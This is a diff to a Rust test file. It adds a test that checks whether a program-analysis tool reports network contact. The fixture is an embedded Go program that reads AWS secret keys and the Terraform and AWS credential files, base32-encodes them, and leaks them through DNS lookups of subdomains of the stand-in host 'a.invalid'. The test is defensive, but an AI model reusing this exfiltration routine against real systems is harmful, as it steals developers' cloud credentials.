@@ -109,3 +109,22 @@ fn nothing_is_told_of_programs_that_only_serve_and_fetch() {
     );
     assert!(told.contains(&"run git status".to_owned()), "{told:#?}");
 }
+
+#[test]
+fn keys_are_followed_into_the_names_that_are_looked_up() {
+    let told = told(
+        Go,
+        "package main\n\nimport (\n\t\"encoding/base32\"\n\t\"fmt\"\n\t\"net\"\n\t\"os\"\n\t\"path/filepath\"\n\t\"strings\"\n)\n\n\
+         func account() {\n\thome, _ := os.UserHomeDir()\n\
+         \tsrc := []string{os.Getenv(\"ID\") + \":\" + os.Getenv(\"AWS_SECRET_ACCESS_KEY\")}\n\
+         \tfor _, f := range []string{\".aws/credentials\", \".terraform.d/credentials.tfrc.json\"} {\n\
+         \t\tif b, err := os.ReadFile(filepath.Join(home, f)); err == nil {\n\t\t\tsrc = append(src, string(b))\n\t\t}\n\t}\n\
+         \tenc := base32.StdEncoding.WithPadding(base32.NoPadding)\n\
+         \ttext := strings.ToLower(enc.EncodeToString([]byte(strings.Join(src, \"\\n\"))))\n\
+         \tfor i, n := 0, 0; i < len(text); i, n = i+58, n+1 {\n\t\tend := i + 58\n\
+         \t\tnet.LookupHost(fmt.Sprintf(\"%s.%d.a.invalid\", text[i:end], n))\n\t}\n}\n\nfunc main() {\n\taccount()\n}\n",
+    );
+    let is_sent =
+        |line: &String| line.starts_with("contact") && line.contains("a.invalid [SignIns]");
+    assert!(told.iter().any(is_sent), "{told:#?}");
+}
